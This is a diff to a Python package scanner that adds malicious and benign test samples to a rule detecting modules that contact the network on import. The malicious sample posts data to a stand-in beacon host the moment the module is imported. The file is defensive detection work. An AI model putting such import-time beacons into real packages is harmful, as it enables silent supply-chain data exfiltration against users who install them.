@@ -9,6 +9,7 @@ from wheelmark.scan.facts import Act, Call, Facts
 from wheelmark.scan.report import Context, Severity, Tactic
 from wheelmark.scan.rule import Evidence, Rule
 from wheelmark.scan.rules._common import shown
+from wheelmark.scan.samples import Sample, Samples
 from wheelmark.scan.vocabulary import LOOK_UPS
 
 _HOST_NAME = re.compile(r"(?i)^[\w.-]+\.[a-z]{2,}$")
@@ -40,4 +41,31 @@ RULE = Rule(
     message="Importing the module is enough for it to talk to the network.",
     reference="https://attack.mitre.org/techniques/T1195/002/",
     check=check,
+    samples=Samples(
+        malicious=(
+            Sample.imported("""
+                import requests
+
+                requests.post("https://beacon.example.invalid/", json={"imported": True})
+            """),
+        ),
+        benign=(
+            Sample.imported("""
+                import socket
+
+                import requests
+
+                SESSION = requests.Session()
+                _own = socket.gethostbyname(socket.gethostname())
+
+
+                def fetch(url):
+                    return SESSION.get(url, timeout=10)
+
+
+                if __name__ == "__main__":
+                    print(fetch("https://www.example.invalid/"))
+            """),
+        ),
+    ),
 )
